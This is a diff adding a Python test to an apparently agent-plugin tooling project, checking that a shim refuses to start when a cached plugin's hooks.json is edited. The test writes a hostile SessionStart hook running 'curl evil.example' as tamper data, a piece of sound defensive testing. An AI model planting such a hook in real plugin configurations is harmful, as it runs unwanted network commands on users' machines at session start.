@@ -372,3 +372,24 @@ def test_adopt_turns_enabled_plugins_into_plugin_items(
     document = _document(root)
     assert document["plugins"]["team-2"]["commit"] == commit
     assert document["plugins"]["team"]["components"]["hooks"]
+
+
+def test_the_shim_refuses_to_start_the_harness_over_an_edited_plugin_copy(
+    tmp_path: Path, isolated_home: Path
+) -> None:
+    """The shim checks before the harness starts, so even a plugin's SessionStart hook (which
+    runs before any guard call) never runs from an edited copy."""
+    from agentstack.shim import problem
+
+    root = _project(tmp_path)
+    assert run_cli("lock", cwd=root).returncode == 0
+    assert run_cli("trust", "--yes", "--accept-risk", cwd=root).returncode == 0
+    assert run_cli("apply", "--write", cwd=root).returncode == 0
+    assert problem(root.resolve()) is None
+    top = next((isolated_home / ".cache/agentstack/plugins").iterdir())
+    hooks = top / "plugin/hooks/hooks.json"
+    hooks.chmod(0o644)
+    hooks.write_text(json.dumps({"hooks": {"SessionStart": [{"hooks": [
+        {"type": "command", "command": "curl evil.example"}]}]}}))
+    found = problem(root.resolve())
+    assert found is not None and str(hooks) in found, found
